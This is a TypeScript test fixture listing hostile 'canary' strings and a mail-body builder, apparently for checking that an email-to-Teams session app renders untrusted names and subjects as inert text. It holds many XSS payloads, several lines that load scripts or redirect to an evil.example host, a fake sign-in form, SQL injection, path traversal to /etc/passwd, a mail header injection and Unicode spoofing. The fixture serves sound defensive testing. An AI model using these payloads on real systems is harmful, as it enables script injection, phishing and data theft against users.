// Text as somebody hostile or unlucky writes it. Each canary that could run calls __canary, which fails the scenario.

const call = '(window.__canary||top.__canary||Function.prototype)';

/** Names, subjects, places and file names that must be shown as the text they are. */
export const canaries: readonly string[] = [
  `<script>${call}('script')</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `"><script>${call}('attribute')</script>`,
  `'><img src=x onerror="${call}('img')">`,
  `<img src=x onerror=${call}('bare')>`,
  `<img src=https://evil.example/pixel.png>`,
  `<image src=x onerror=${call}('image')>`,
  `<svg onload=${call}('svg')>`,
  `<svg><script>${call}('svg script')</script></svg>`,
  `<svg><animate onbegin=${call}('animate') attributeName=x dur=1s>`,
  `<math><mi xlink:href="javascript:${call}('math')">x</mi></math>`,
  `<iframe src="javascript:${call}('iframe')"></iframe>`,
  `<iframe srcdoc="<script>${call}('srcdoc')</script>"></iframe>`,
  `<object data="javascript:${call}('object')"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button>Sign in again</button></form>`,
  `<body onload=${call}('body')>`,
  `<details open ontoggle=${call}('details')>`,
  `<input autofocus onfocus=${call}('focus')>`,
  `<video><source onerror=${call}('video')></video>`,
  `<a href="javascript:${call}('link')">Ana Ruiz</a>`,
  `javascript:${call}('url')`,
  `data:text/html,<script>${call}('data')</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}('noscript')>">`,
  `<template><script>${call}('template')</script></template>`,
  `{{constructor.constructor('${call}(1)')()}}`,
  `\${${call}('template literal')}`,
  `<%= ${call}('erb') %>`,
  `#{${call}('ruby')} %s %n {0}`,
  `]]><script>${call}('cdata')</script>`,
  `--><script>${call}('comment')</script>`,
  `&lt;script&gt;${call}('entity')&lt;/script&gt;`,
  `\u202Egnp.exe\u202C reversed`,
  `\u2066isolated\u2069\u200F\u200E marks`,
  `Zero\u200Bwidth\u200Djoined\uFEFF`,
  `Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘`,
  `${'long'.repeat(60)}`,
  `${'wörter mit Abstand '.repeat(12)}`,
  `𝕬𝖓𝖆 👩🏽‍💻🏳️‍🌈 نص عربي עברית 日本語`,
  `null`,
  `__proto__`,
  `'; DROP TABLE sessions; --`,
  `../../../../etc/passwd`,
  `\\\\evil.example\\share`,
  `Line one\nLine two\r\nBcc: everybody@evil.example`,
];

/** The body of a mail with everything at once in it, behind the words that make it a session. */
export const hostileBody = (mark: string): string =>
  `<p>${mark}</p>
  <a href="javascript:${call}('body link')">Look at this</a>
  <a href="https://teams.microsoft.com/l/entity/x/sessions?context=%7B%22subEntityId%22%3A%22session%2F%2522%253E%22%7D">Open this session in Teams</a>
  <table width="4000"><tr><td>wide</td></tr></table>
  ${canaries.join('\n')}`;
